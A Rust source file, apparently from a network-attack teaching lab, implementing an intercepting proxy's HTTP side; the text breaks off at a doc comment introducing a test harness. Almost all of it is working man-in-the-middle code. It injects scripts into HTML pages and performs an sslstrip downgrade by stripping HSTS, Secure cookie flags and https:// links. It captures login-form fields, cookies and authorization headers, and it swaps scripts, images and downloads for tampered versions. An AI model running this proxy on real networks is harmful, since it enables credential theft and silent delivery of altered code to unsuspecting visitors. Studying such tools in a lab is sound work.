//! The intruder's HTTP side: requests pass through (hyper on both sides), HTML responses
//! get the advertisement injected while they stream, and in `strip` mode the visitor is
//! kept on plain HTTP while the intruder talks HTTPS to the site.
//!
//! Connections to the site are pooled ([`Pool`]): a visitor connection takes one, returns
//! it when done, and the next visitor connection reuses it, as browsers and nginx's
//! `keepalive` upstreams do. Opening and closing one per visitor connection leaves a
//! TIME_WAIT socket behind each, and a busy lab runs out of local ports.
//!
//! Hardening follows hyper's: a header-read timeout (answered with 408), header count and
//! size limits;
//! malformed framing (`Content-Length: +3`, overflowing chunk sizes) is refused by hyper's
//! parser, and a request with both `Content-Length` and `Transfer-Encoding` is never
//! forwarded as is (the length is dropped; hyper re-frames the body).

use std::collections::HashMap;
use std::convert::Infallible;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::{Duration, Instant};

use bytes::Bytes;
use http::{HeaderValue, Request, Response, StatusCode, header};
use http_body::{Body, Frame};
use http_body_util::BodyExt;
use hyper::body::Incoming;
use hyper_util::rt::{TokioIo, TokioTimer};
use tokio::net::TcpStream;
use tokio::sync::Mutex;

use super::inject::{Injector, Tamper, csp_blocks_inline, tamper, tamper_kind};
use super::{Act, Ctx, Interception, ProxyError, TlsMode};

type BoxError = Box<dyn std::error::Error + Send + Sync>;
type Out = http_body_util::combinators::UnsyncBoxBody<Bytes, BoxError>;
/// Request bodies up to this size are read whole (forms: what the intruder wants).
const READ_FORMS: u64 = 64 << 10;
/// HTML pages up to this size (by their Content-Length) are rewritten whole; larger ones,
/// and those of unknown length, stream through.
const WHOLE_PAGE: u64 = 256 << 10;

/// A site connection's identity: where it goes, and the server name when it is TLS.
type SiteKey = (SocketAddr, Option<String>);
type Sender = hyper::client::conn::http1::SendRequest<Out>;
/// Idle connections kept per site, at most.
const POOL_PER_SITE: usize = 256;
/// An idle connection older than this is not reused (sites close idle ones after 60 s or
/// more: nginx 75 s, the lab's site 60 s; reusing one the site is closing fails the request).
const POOL_IDLE: Duration = Duration::from_secs(15);

/// Idle connections to sites, newest last.
#[derive(Default)]
pub struct Pool(std::sync::Mutex<HashMap<SiteKey, Vec<(Instant, Sender)>>>);

impl Pool {
    fn take(&self, key: &SiteKey) -> Option<Sender> {
        let mut map = self.0.lock().expect("no panics while held");
        let idle = map.get_mut(key)?;
        while let Some((since, s)) = idle.pop() {
            if since.elapsed() < POOL_IDLE && s.is_ready() {
                return Some(s);
            }
        }
        None
    }

    fn put(&self, key: SiteKey, s: Sender) {
        if s.is_closed() {
            return;
        }
        let mut map = self.0.lock().expect("no panics while held");
        let idle = map.entry(key).or_default();
        idle.retain(|(since, s)| since.elapsed() < POOL_IDLE && !s.is_closed());
        if idle.len() < POOL_PER_SITE {
            idle.push((Instant::now(), s));
        }
    }

    /// Idle connections kept, over all sites.
    #[cfg(test)]
    fn idle(&self) -> usize {
        self.0.lock().expect("no panics while held").values().map(Vec::len).sum()
    }
}

/// How the intruder reaches the site.
#[derive(Clone)]
pub enum Upstream {
    Plain,
    /// HTTPS with this server name (strip, trusted mitm).
    Tls(String),
}

/// Handles one intercepted plain-HTTP connection.
pub async fn connection(client: TcpStream, ctx: Arc<Ctx>, upstream: Option<Upstream>) {
    let Some((peer, dst)) = super::intercepted(&client) else { return };
    visitor(client, peer, dst, ctx, upstream).await
}

/// Serves one visitor connection that was going to `dst`, from its first byte to its close.
async fn visitor(client: TcpStream, peer: String, dst: SocketAddr, ctx: Arc<Ctx>, upstream: Option<Upstream>) {
    let _open = crate::lab::conn::Open::count();
    // A page that grew past one segment with the ad must not wait for an ACK (Nagle).
    let _ = client.set_nodelay(true);
    // An idle connection costs only its socket until the first byte arrives: hyper's
    // buffers are made then (10,000 idle visitors must not cost 10,000 parsers). A peek,
    // not `readable()`: a new socket starts out marked ready, and only a read that finds
    // nothing clears that.
    let mut first = [0u8; 1];
    let idle = ctx.opts.idle_timeout;
    if !matches!(tokio::time::timeout(crate::lab::conn::header_timeout(idle), client.peek(&mut first)).await, Ok(Ok(_)))
    {
        return;
    }
    // sslstrip: the visitor speaks HTTP to us, we speak HTTPS to the site.
    let (dst, upstream) = match (ctx.opts.tls, upstream) {
        (_, Some(u)) => (dst, u),
        (TlsMode::Strip, None) => (SocketAddr::new(dst.ip(), 443), Upstream::Tls(String::new())),
        _ => (dst, Upstream::Plain),
    };
    // Boxed, in a statement of its own so the big state is not laid out inline in this
    // future: it is allocated only now that the connection talks.
    // Kept only now that it talks: an idle connection costs one descriptor, not two.
    let linger = crate::lab::conn::Linger::keep(&client);
    let (client, heard) = crate::lab::conn::watched(crate::lab::conn::idle_limited(client, idle));
    let talk: Pin<Box<dyn std::future::Future<Output = bool> + Send>> =
        Box::pin(serve(TokioIo::new(client), peer, dst, upstream, ctx));
    let gave_up = talk.await;
    linger.close_after(if gave_up && heard.mid_request() { crate::lab::conn::REQUEST_TIMEOUT } else { b"" }).await;
}

/// Serves HTTP to the visitor on `io`, forwarding to `dst`. True when it gave up waiting
/// for a request head (the caller answers 408 where it can).
pub async fn serve<I>(io: I, peer: String, dst: SocketAddr, upstream: Upstream, ctx: Arc<Ctx>) -> bool
where
    I: hyper::rt::Read + hyper::rt::Write + Unpin + Send + 'static,
{
    let sender: Arc<Mutex<Option<(SiteKey, Sender)>>> = Arc::new(Mutex::new(None));
    let header_timeout = crate::lab::conn::header_timeout(ctx.opts.idle_timeout);
    let (pool_ctx, kept) = (ctx.clone(), sender.clone());
    let svc = hyper::service::service_fn(move |req| {
        let ctx = ctx.clone();
        let sender = sender.clone();
        let peer = peer.clone();
        let upstream = upstream.clone();
        async move { Ok::<_, Infallible>(proxy(req, sender, ctx, peer, dst, upstream).await) }
    });
    let mut b = hyper::server::conn::http1::Builder::new();
    b.timer(TokioTimer::new()).header_read_timeout(header_timeout).max_headers(64).max_buf_size(16 * 1024);
    let result = b.serve_connection(io, svc).await;
    if let Some((key, s)) = kept.lock().await.take() {
        pool_ctx.pool.put(key, s);
    }
    match result {
        Ok(()) => false,
        Err(e) if e.is_timeout() => true,
        Err(e) => {
            eprintln!("inject: client connection: {e}");
            false
        }
    }
}

/// The site connection a request to `dst` (with `Host: host`) goes over.
fn site_key(dst: SocketAddr, upstream: &Upstream, host: &str) -> SiteKey {
    let name = match upstream {
        Upstream::Plain => None,
        Upstream::Tls(name) if name.is_empty() => Some(host.split(':').next().unwrap_or(host).to_string()),
        Upstream::Tls(name) => Some(name.clone()),
    };
    (dst, name)
}

async fn connect(key: &SiteKey, ctx: &Ctx) -> Result<Sender, ProxyError> {
    let dst = key.0;
    let tcp = tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(dst))
        .await
        .map_err(|_| ProxyError::ConnectTimeout(dst))?
        .map_err(|source| ProxyError::Connect { addr: dst, source })?;
    let _ = tcp.set_nodelay(true);
    // The proxy closes a site connection only when it is idle (the pool is full, or it
    // aged out) or broken: a reset then loses nothing, and leaves no TIME_WAIT socket
    // holding a local port for a minute (a burst of 5,000 visitors left 20,000).
    let _ = tcp.set_zero_linger();
    macro_rules! handshake {
        ($io:expr) => {{
            let (s, conn) =
                hyper::client::conn::http1::handshake(TokioIo::new($io)).await.map_err(ProxyError::Handshake)?;
            tokio::spawn(async move {
                let _ = conn.await;
            });
            s
        }};
    }
    Ok(match &key.1 {
        None => handshake!(tcp),
        Some(name) => {
            let sn = rustls_pki_types::ServerName::try_from(name.clone())
                .map_err(|e| ProxyError::ServerName(name.clone(), e.to_string()))?;
            let tls = ctx.upstream_tls.connect(sn, tcp).await.map_err(ProxyError::UpstreamTls)?;
            handshake!(tls)
        }
    })
}

fn error(status: StatusCode, msg: &str) -> Response<Out> {
    let mut r =
        Response::new(http_body_util::Full::new(Bytes::from(msg.to_string())).map_err(|e| match e {}).boxed_unsync());
    *r.status_mut() = status;
    if status == StatusCode::REQUEST_TIMEOUT {
        r.headers_mut().insert(header::CONNECTION, HeaderValue::from_static("close"));
    }
    r
}

const HOP_BY_HOP: [&str; 7] =
    ["connection", "keep-alive", "proxy-connection", "te", "trailer", "upgrade", "proxy-authorization"];

async fn proxy(
    req: Request<Incoming>,
    sender: Arc<Mutex<Option<(SiteKey, Sender)>>>,
    ctx: Arc<Ctx>,
    peer: String,
    dst: SocketAddr,
    upstream: Upstream,
) -> Response<Out> {
    let (mut parts, body) = req.into_parts();
    let path = parts.uri.path().to_string();
    let host = parts.headers.get(header::HOST).and_then(|h| h.to_str().ok()).unwrap_or("").to_string();
    let scheme = if matches!(upstream, Upstream::Tls(_)) && ctx.opts.tls != TlsMode::Strip { "https" } else { "http" };
    let url = format!("{scheme}://{host}{}", parts.uri.path_and_query().map(|p| p.as_str()).unwrap_or("/"));
    let url = if ctx.opts.reveal { url } else { crate::analysis::findings::mask_url(&url) };
    let mut outcome = Interception {
        kind: super::Kind::Http,
        client: peer,
        server: dst.to_string(),
        method: Some(parts.method.to_string()),
        url: Some(url),
        ..Interception::default()
    };
    for h in HOP_BY_HOP {
        parts.headers.remove(h);
    }
    if parts.headers.contains_key(header::TRANSFER_ENCODING) {
        parts.headers.remove(header::CONTENT_LENGTH);
    }
    let strip = matches!(upstream, Upstream::Tls(_)) && ctx.opts.tls == TlsMode::Strip;
    let head_request = parts.method == http::Method::HEAD;
    // Small bodies (login forms) are read whole: the intruder reads what it relays.
    let small = parts
        .headers
        .get(header::CONTENT_LENGTH)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse::<u64>().ok())
        .is_some_and(|n| n <= READ_FORMS);
    let (body, form): (Out, Vec<u8>) = if small {
        match http_body_util::Limited::new(body, READ_FORMS as usize).collect().await {
            Ok(b) => {
                let b = b.to_bytes();
                (http_body_util::Full::new(b.clone()).map_err(|e| match e {}).boxed_unsync(), b.to_vec())
            }
            Err(e) if crate::lab::conn::timed_out(&*e) => {
                return error(StatusCode::REQUEST_TIMEOUT, "the request body stalled");
            }
            Err(_) => return error(StatusCode::BAD_REQUEST, "bad request body"),
        }
    } else {
        (body.map_err(|e| Box::new(e) as BoxError).boxed_unsync(), Vec::new())
    };
    outcome.learned = learned(&parts, &form, &outcome, ctx.opts.reveal);
    let sent = Arc::new(std::sync::atomic::AtomicBool::new(body.is_end_stream()));
    // What it takes to send an idempotent request again (its head, and its body when there
    // is none or it was read whole).
    let replay =
        (parts.method.is_idempotent() && (body.is_end_stream() || small)).then(|| (parts.clone(), Bytes::from(form)));
    let req = Request::from_parts(parts, Sent { inner: body, sent: sent.clone() }.boxed_unsync());
    let key = site_key(dst, &upstream, &host);
    let resp = match send_to_site(req, replay, &sent, &sender, key, &ctx).await {
        Ok(r) => r,
        Err(f) => return f.answer(outcome, &ctx),
    };
    let resp = match resp {
        Ok(r) => r,
        // The visitor's streamed body stalled on its way to the site.
        Err(e) if crate::lab::conn::timed_out(&e) => {
            let detail = Some("the visitor's request body stalled".into());
            return Failure { detail, status: StatusCode::REQUEST_TIMEOUT, message: "the request body stalled" }
                .answer(outcome, &ctx);
        }
        Err(e) => {
            return Failure::bad_gateway(format!("the site's response was unreadable: {e}")).answer(outcome, &ctx);
        }
    };
    relay_response(resp, outcome, &ctx, strip, &path, head_request).await
}

/// The site's response on its way to the visitor: headers stripped under sslstrip, a
/// resource tampered with, a page rewritten (whole when it is small, streamed otherwise),
/// or passed on unchanged with the reason why.
async fn relay_response(
    resp: Response<Incoming>,
    mut outcome: Interception,
    ctx: &Arc<Ctx>,
    strip: bool,
    path: &str,
    head_request: bool,
) -> Response<Out> {
    let (mut parts, body) = resp.into_parts();
    outcome.status = Some(parts.status.as_u16());
    if strip {
        strip_headers(&mut parts.headers);
    }
    let ct = parts.headers.get(header::CONTENT_TYPE).and_then(|v| v.to_str().ok()).unwrap_or("").to_ascii_lowercase();
    let enc = parts
        .headers
        .get(header::CONTENT_ENCODING)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("identity")
        .trim()
        .to_ascii_lowercase();
    let csp = parts.headers.get("content-security-policy").and_then(|v| v.to_str().ok()).map(str::to_string);
    let has_body = !(head_request || parts.status != StatusCode::OK);
    let disposition = parts.headers.get(header::CONTENT_DISPOSITION).and_then(|v| v.to_str().ok());
    if let Some(kind) = tamper_kind(&ct, path, disposition).filter(|_| ctx.opts.resources && has_body) {
        return tamper_resource(kind, parts, body, &enc, outcome, ctx).await;
    }
    let skip = skip_reason(&ctx.opts.ad, &ct, head_request, parts.status, csp.as_deref(), &enc);
    if let Some(reason) = skip {
        outcome.outcome = if strip { Act::Stripped } else { Act::Skipped };
        outcome.detail = if strip { format!("visitor kept on http; {reason}") } else { reason };
        ctx.record(outcome);
        return Response::from_parts(parts, body.map_err(|e| Box::new(e) as BoxError).boxed_unsync());
    }
    let length =
        parts.headers.get(header::CONTENT_LENGTH).and_then(|v| v.to_str().ok()).and_then(|v| v.parse::<u64>().ok());
    if length.is_some_and(|n| n <= WHOLE_PAGE) {
        let page = match http_body_util::Limited::new(body, WHOLE_PAGE as usize).collect().await {
            Ok(b) => b.to_bytes(),
            Err(e) => return Failure::bad_gateway(format!("site's body broke off: {e}")).answer(outcome, ctx),
        };
        let full = |b: Bytes| http_body_util::Full::new(b).map_err(|e| match e {}).boxed_unsync();
        let Some(rewritten) = rewrite_whole(&page, Rewrite::new(&enc, &ctx.opts.ad, strip, outcome, ctx.clone()))
        else {
            return Response::from_parts(parts, full(page));
        };
        drop_body_framing(&mut parts.headers);
        return Response::from_parts(parts, full(rewritten));
    }
    drop_body_framing(&mut parts.headers);
    let rw = Rewrite::new(&enc, &ctx.opts.ad, strip, outcome, ctx.clone());
    Response::from_parts(parts, InjectBody { upstream: body, rw }.boxed_unsync())
}

/// Why a response goes on unchanged, if it does: injection off, not HTML, no body, a
/// Content-Security-Policy that would block the ad's inline script, an encoding the
/// rewriter cannot read. Pure: decided from the response's head alone.
fn skip_reason(
    ad: &str,
    ct: &str,
    head_request: bool,
    status: StatusCode,
    csp: Option<&str>,
    enc: &str,
) -> Option<String> {
    if ad.is_empty() {
        Some("injection off (--pass-through)".to_string())
    } else if !ct.contains("text/html") {
        Some(format!("not HTML ({})", if ct.is_empty() { "no content type" } else { ct }))
    } else if head_request
        || status == StatusCode::NO_CONTENT
        || status == StatusCode::NOT_MODIFIED
        || status.is_informational()
    {
        Some("no body".to_string())
    } else if csp.is_some_and(csp_blocks_inline) {
        Some("Content-Security-Policy would block the inline script".to_string())
    } else if !matches!(enc, "identity" | "gzip" | "x-gzip" | "deflate" | "br") {
        Some(format!("unsupported content encoding {enc}"))
    } else {
        None
    }
}

/// Why the proxy answers the visitor itself: the outcome's detail (none: nothing to
/// record), and the status it answers with.
struct Failure {
    detail: Option<String>,
    status: StatusCode,
    message: &'static str,
}

impl Failure {
    fn bad_gateway(detail: String) -> Failure {
        Failure { detail: Some(detail), status: StatusCode::BAD_GATEWAY, message: "bad gateway" }
    }

    /// Records the failure (when it has a detail) and answers the visitor: the one way a
    /// request ends in failure.
    fn answer(self, mut outcome: Interception, ctx: &Ctx) -> Response<Out> {
        if let Some(detail) = self.detail {
            outcome.outcome = Act::Failed;
            outcome.detail = detail;
            ctx.record(outcome);
        }
        error(self.status, self.message)
    }
}

/// This visitor connection's site connection, if it goes where this request goes; else
/// one from the pool; else a new one. True when the connection was kept from before.
async fn take_connection(guard: &mut Option<(SiteKey, Sender)>, key: &SiteKey, ctx: &Ctx) -> Result<bool, Failure> {
    match guard.take() {
        Some((k, s)) if k == *key && !s.is_closed() => *guard = Some((k, s)),
        Some((k, s)) => ctx.pool.put(k, s),
        None => {}
    }
    if guard.is_some() {
        return Ok(true);
    }
    let kept = ctx.pool.take(key);
    let reused = kept.is_some();
    let s = match kept {
        Some(s) => s,
        None => connect(key, ctx).await.map_err(|e| Failure::bad_gateway(format!("cannot reach the site: {e}")))?,
    };
    *guard = Some((key.clone(), s));
    Ok(reused)
}

/// Sends a request and waits for the site's answer. The site gets as long to answer as a
/// visitor gets to say something, counted once the request is all sent: while the
/// visitor's body is still coming, its own idle limit applies (a stalled body is the
/// visitor's 408, not the site's 504).
async fn answer_of(
    s: &mut Sender,
    req: Request<Out>,
    sent: &std::sync::atomic::AtomicBool,
    ctx: &Ctx,
) -> Result<Result<Response<Incoming>, hyper::client::conn::TrySendError<Request<Out>>>, tokio::time::error::Elapsed> {
    let answer = s.try_send_request(req);
    tokio::pin!(answer);
    loop {
        match tokio::time::timeout(ctx.opts.idle_timeout, &mut answer).await {
            Ok(r) => return Ok(r),
            Err(_) if !sent.load(std::sync::atomic::Ordering::Relaxed) => continue,
            Err(e) => return Err(e),
        }
    }
}

/// Sends the request on this visitor connection's site connection if it goes where the
/// request goes, else on one from the pool, else on a new one; and sends it again on a
/// fresh connection when a kept one closed under it (the retry rule below).
async fn send_to_site(
    req: Request<Out>,
    replay: Option<(http::request::Parts, Bytes)>,
    sent: &std::sync::atomic::AtomicBool,
    sender: &Mutex<Option<(SiteKey, Sender)>>,
    key: SiteKey,
    ctx: &Ctx,
) -> Result<Result<Response<Incoming>, hyper::Error>, Failure> {
    let mut guard = sender.lock().await;
    let reused = take_connection(&mut guard, &key, ctx).await?;
    // A kept site connection can close just as it is taken (the site ended it): the
    // request then never left, and goes once more on a fresh connection, as a browser
    // retries on a closed keep-alive connection. A request that did leave goes again
    // only when it is idempotent (RFC 9110 §9.2.2), its body is at hand, and the kept
    // connection closed without an answer or answered 408 (the site gave up on the
    // idle connection as the request arrived), as browsers do.
    let mut req = Some(req);
    let again = |why: &dyn Fn() -> bool| reused && replay.is_some() && why();
    let mut fresh = false;
    let waited = loop {
        let s = &mut guard.as_mut().expect("connected above").1;
        let usable = s.ready().await.is_ok();
        let outcome_of =
            if usable { Some(answer_of(s, req.take().expect("a request to send"), sent, ctx).await) } else { None };
        let resend = || {
            replay.clone().map(|(p, b)| {
                Request::from_parts(p, http_body_util::Full::new(b).map_err(|e| match e {}).boxed_unsync())
            })
        };
        let unsent = match outcome_of {
            Some(Ok(Err(mut e))) => match e.take_message() {
                Some(r) => Some(r),
                None => {
                    let e = e.into_error();
                    if fresh || !again(&|| e.is_incomplete_message()) {
                        break Ok(Err(e));
                    }
                    resend()
                }
            },
            Some(Ok(Ok(r))) if fresh || !again(&|| r.status() == StatusCode::REQUEST_TIMEOUT) => break Ok(Ok(r)),
            Some(Ok(Ok(_))) => resend(),
            Some(Err(e)) => break Err(e),
            None => req.take(),
        };
        let Some(r) = unsent.filter(|_| !fresh) else {
            *guard = None;
            return Err(Failure { detail: None, status: StatusCode::BAD_GATEWAY, message: "bad gateway" });
        };
        req = Some(r);
        fresh = true;
        match connect(&key, ctx).await {
            Ok(n) => *guard = Some((key.clone(), n)),
            Err(e) => {
                *guard = None;
                return Err(Failure::bad_gateway(format!("cannot reach the site: {e}")));
            }
        }
    };
    match waited {
        Ok(r) => Ok(r),
        Err(_) => {
            *guard = None;
            Err(Failure {
                detail: Some(format!("the site did not answer within {} s", ctx.opts.idle_timeout.as_secs())),
                status: StatusCode::GATEWAY_TIMEOUT,
                message: "gateway timeout",
            })
        }
    }
}

/// What the pipeline's findings say about a request the proxy read (secrets masked).
pub(super) fn learned(
    parts: &http::request::Parts,
    body: &[u8],
    o: &Interception,
    reveal: bool,
) -> Vec<super::Learned> {
    use crate::analysis::dissect::{Event, Record, http as dh};
    let h = |n: header::HeaderName| parts.headers.get(n).and_then(|v| v.to_str().ok()).map(str::to_string);
    let uri = parts.uri.path_and_query().map(|p| p.as_str()).unwrap_or("/").to_string();
    let content_type = h(header::CONTENT_TYPE);
    let mut fields = dh::query_fields(&uri);
    fields.extend(dh::body_fields(content_type.as_deref(), body));
    let req = dh::Request {
        method: parts.method.to_string(),
        version: "HTTP/1.1".into(),
        host: h(header::HOST),
        user_agent: None,
        referer: h(header::REFERER),
        cookies: parts
            .headers
            .get_all(header::COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .map(str::to_string)
            .collect(),
        authorization: h(header::AUTHORIZATION).map(dh::authorization),
        content_type,
        body_len: body.len() as u64,
        fields,
        incomplete: false,
        non_conforming: None,
        uri,
    };
    let any: SocketAddr = "0.0.0.0:0".parse().expect("literal");
    let e = Event {
        frame: 0,
        ts: 0,
        conn: None,
        src: o.client.parse().unwrap_or(any),
        dst: o.server.parse().unwrap_or(any),
        record: Record::HttpRequest(req),
    };
    crate::analysis::findings::from_event(&e)
        .into_iter()
        .filter(|f| f.class != crate::analysis::findings::Class::Metadata)
        .map(|f| super::Learned {
            class: f.class,
            about: f.about.clone(),
            secret: f.shown_secret(reveal),
            summary: f.shown_summary(reveal).to_string(),
        })
        .collect()
}

/// Drops what protects the visitor from a downgrade: HSTS, `Secure` cookies, https:// redirects.
fn strip_headers(h: &mut http::HeaderMap) {
    h.remove(header::STRICT_TRANSPORT_SECURITY);
    if let Some(loc) = h.get(header::LOCATION).and_then(|l| l.to_str().ok())
        && let Ok(v) = HeaderValue::from_str(&loc.replacen("https://", "http://", 1))
    {
        h.insert(header::LOCATION, v);
    }
    let cookies: Vec<String> = h
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .map(|c| c.split(';').filter(|a| !a.trim().eq_ignore_ascii_case("secure")).collect::<Vec<_>>().join(";"))
        .collect();
    h.remove(header::SET_COOKIE);
    for c in cookies {
        if let Ok(v) = HeaderValue::from_str(&c) {
            h.append(header::SET_COOKIE, v);
        }
    }
}

/// Downgrades `https://` to `http://` in a byte stream, whatever the chunk boundaries: the
/// bytes at a chunk's end that could begin `https://` wait for the next chunk. It works on
/// bytes, never decoding text, so a multi-byte character split across two chunks passes
/// through whole.
#[derive(Default)]
struct Downgrade {
    held: Vec<u8>,
}

impl Downgrade {
    const FROM: &'static [u8] = b"https://";
    const TO: &'static [u8] = b"http://";

    fn feed(&mut self, data: &[u8]) -> Vec<u8> {
        let mut buf = std::mem::take(&mut self.held);
        buf.extend_from_slice(data);
        let mut out = Vec::with_capacity(buf.len());
        let mut i = 0;
        while let Some(at) = memchr::memchr(b'h', &buf[i..]) {
            out.extend_from_slice(&buf[i..i + at]);
            i += at;
            let rest = &buf[i..];
            if rest.starts_with(Self::FROM) {
                out.extend_from_slice(Self::TO);
                i += Self::FROM.len();
            } else if Self::FROM.starts_with(rest) {
                // Cut by the chunk's end: it may still become https://.
                self.held = rest.to_vec();
                return out;
            } else {
                out.push(b'h');
                i += 1;
            }
        }
        out.extend_from_slice(&buf[i..]);
        out
    }

    /// What was held back when the body ends.
    fn end(self) -> Vec<u8> {
        self.held
    }
}

/// What described the site's body and no longer describes the rewritten one: its length,
/// its encoding (the page goes out decoded) and its entity tag.
fn drop_body_framing(headers: &mut http::HeaderMap) {
    for h in [header::CONTENT_LENGTH, header::CONTENT_ENCODING, header::ETAG] {
        headers.remove(h);
    }
}

/// Rewriting one HTML response: decoded, the ad injected, and (strip) https:// links
/// downgraded; the outcome is recorded when it ends, or when the visitor goes away first.
struct Rewrite {
    decoder: Option<crate::analysis::dissect::http::content::Decoder>,
    injector: Option<Injector>,
    strip: bool,
    /// Downgrades https:// links (strip mode), across chunk boundaries.
    downgrade: Option<Downgrade>,
    ready: std::collections::VecDeque<Bytes>,
    sent: u64,
    failure: Option<String>,
    outcome: Option<Interception>,
    ctx: Arc<Ctx>,
}

impl Rewrite {
    fn new(enc: &str, ad: &str, strip: bool, outcome: Interception, ctx: Arc<Ctx>) -> Rewrite {
        let downgrade = strip.then(Downgrade::default);
        Rewrite {
            decoder: Some(crate::analysis::dissect::http::content::Decoder::new(enc)),
            injector: Some(Injector::new(ad)),
            strip,
            downgrade,
            ready: Default::default(),
            sent: 0,
            failure: None,
            outcome: Some(outcome),
            ctx,
        }
    }

    fn ended(&self) -> bool {
        self.decoder.is_none()
    }

    fn emit(&mut self, out: Vec<u8>) {
        let out = match self.downgrade.as_mut() {
            Some(d) => d.feed(&out),
            None => out,
        };
        self.push(out);
    }

    fn push(&mut self, out: Vec<u8>) {
        if out.is_empty() {
            return;
        }
        self.sent += out.len() as u64;
        self.ready.push_back(Bytes::from(out));
    }

    fn rewrite(&mut self, plain: &[u8]) {
        let Some(inj) = self.injector.as_mut() else { return };
        match inj.write(plain) {
            Ok(out) => self.emit(out),
            Err(e) => self.failure = Some(e.to_string()),
        }
    }

    /// A chunk of the site's body, as it came (encoded).
    fn feed(&mut self, data: &[u8]) {
        if self.failure.is_some() {
            return;
        }
        match self.decoder.as_mut().map(|d| d.feed(data)) {
            Some(Ok(plain)) => self.rewrite(&plain),
            Some(Err(e)) => self.failure = Some(format!("cannot decode the body: {e}")),
            None => {}
        }
    }

    /// The body ended (or broke): flush the decoder and the rewriter, record the outcome.
    fn finish(&mut self) {
        if let Some(dec) = self.decoder.take()
            && self.failure.is_none()
        {
            let tail = dec.finish();
            self.rewrite(&tail);
        }
        let injected = match self.injector.take().map(Injector::end) {
            Some(Ok((rest, injected))) => {
                self.emit(rest);
                injected
            }
            _ => false,
        };
        if let Some(d) = self.downgrade.take() {
            self.push(d.end());
        }
        self.record(injected);
    }

    fn record(&mut self, injected: bool) {
        let Some(mut o) = self.outcome.take() else { return };
        o.bytes_to_client = self.sent;
        (o.outcome, o.detail) = match (&self.failure, injected, self.strip) {
            (Some(f), _, _) => (Act::Failed, f.clone()),
            (None, true, true) => {
                (Act::Stripped, "visitor kept on http: page read, links downgraded and ad injected".into())
            }
            (None, true, false) => (Act::Injected, "advertisement inserted at the start of <body>".into()),
            (None, false, _) => (Act::Skipped, "no <body> element".into()),
        };
        self.ctx.record(o);
    }
}

impl Drop for Rewrite {
    fn drop(&mut self) {
        if self.outcome.is_some() {
            self.failure.get_or_insert_with(|| "visitor disconnected mid-body".into());
            self.record(false);
        }
    }
}

/// A page small enough to hold (its Content-Length says so), rewritten whole: the visitor
/// gets it with a Content-Length of its own, in one write, rather than chunked. `None`
/// when it cannot be rewritten (recorded as failed): the page then goes on unchanged.
fn rewrite_whole(page: &[u8], mut rw: Rewrite) -> Option<Bytes> {
    rw.feed(page);
    if rw.failure.is_some() {
        rw.failure = rw.failure.take().map(|f| format!("{f}; the page went on unchanged"));
    }
    rw.finish();
    match rw.failure {
        Some(_) => None,
        None => {
            let mut page = Vec::with_capacity(rw.sent as usize);
            for chunk in rw.ready.drain(..) {
                page.extend_from_slice(&chunk);
            }
            Some(page.into())
        }
    }
}

/// Resources past this size go on unchanged (the intruder holds a resource whole).
const WHOLE_RESOURCE: usize = 8 << 20;

/// `--resources`: reads a script, image or download whole, decoded, and sends the
/// tampered version in its place (uncompressed, with its own length).
async fn tamper_resource(
    kind: Tamper,
    mut parts: http::response::Parts,
    body: Incoming,
    enc: &str,
    mut outcome: Interception,
    ctx: &Ctx,
) -> Response<Out> {
    let full = |b: Vec<u8>| http_body_util::Full::new(Bytes::from(b)).map_err(|e| match e {}).boxed_unsync();
    let original = match http_body_util::Limited::new(body, WHOLE_RESOURCE).collect().await {
        Ok(b) => b.to_bytes(),
        Err(e) => {
            outcome.outcome = Act::Failed;
            outcome.detail = format!("site's body broke off or exceeded {} MB: {e}", WHOLE_RESOURCE >> 20);
            ctx.record(outcome);
            return error(StatusCode::BAD_GATEWAY, "bad gateway");
        }
    };
    let decoded = crate::analysis::dissect::http::decode_body(&original, Some(enc));
    let ct = parts.headers.get(header::CONTENT_TYPE).and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
    let (new, ct, what) = tamper(kind, &decoded, &ct);
    drop_body_framing(&mut parts.headers);
    parts.headers.remove(header::TRANSFER_ENCODING);
    if let Ok(v) = HeaderValue::from_str(&ct) {
        parts.headers.insert(header::CONTENT_TYPE, v);
    }
    parts.headers.insert(header::CONTENT_LENGTH, HeaderValue::from(new.len()));
    outcome.outcome = match kind {
        Tamper::Script => Act::Injected,
        Tamper::Image => Act::Replaced,
        Tamper::Download => Act::Swapped,
    };
    outcome.detail = format!("{what} ({} bytes in place of {})", new.len(), decoded.len());
    outcome.bytes_to_client = new.len() as u64;
    ctx.record(outcome);
    Response::from_parts(parts, full(new))
}

/// A request body that says when it has all been sent (its end, or an error).
struct Sent {
    inner: Out,
    sent: Arc<std::sync::atomic::AtomicBool>,
}

impl Body for Sent {
    type Data = Bytes;
    type Error = BoxError;

    fn poll_frame(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, BoxError>>> {
        let r = std::task::ready!(Pin::new(&mut self.inner).poll_frame(cx));
        if !matches!(r, Some(Ok(_))) || self.inner.is_end_stream() {
            self.sent.store(true, std::sync::atomic::Ordering::Relaxed);
        }
        Poll::Ready(r)
    }

    fn is_end_stream(&self) -> bool {
        self.inner.is_end_stream()
    }

    fn size_hint(&self) -> http_body::SizeHint {
        self.inner.size_hint()
    }
}

/// An HTML body rewritten as it streams from the site. The work happens in the visitor's
/// connection task as hyper polls for the next chunk: no extra task, no channel.
struct InjectBody {
    upstream: Incoming,
    rw: Rewrite,
}

impl Body for InjectBody {
    type Data = Bytes;
    type Error = BoxError;

    fn poll_frame(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, BoxError>>> {
        let this = &mut *self;
        loop {
            if let Some(b) = this.rw.ready.pop_front() {
                return Poll::Ready(Some(Ok(Frame::data(b))));
            }
            if this.rw.ended() {
                return Poll::Ready(None);
            }
            match Pin::new(&mut this.upstream).poll_frame(cx) {
                Poll::Pending => return Poll::Pending,
                Poll::Ready(Some(Ok(frame))) => {
                    if let Ok(data) = frame.into_data() {
                        this.rw.feed(&data);
                    }
                }
                Poll::Ready(Some(Err(e))) => {
                    this.rw.failure = Some(format!("site's body broke off: {e}"));
                    this.rw.finish();
                }
                Poll::Ready(None) => this.rw.finish(),
            }
        }
    }
}

/// The proxy's HTTP side through a loopback harness (no namespaces, no root): a scripted
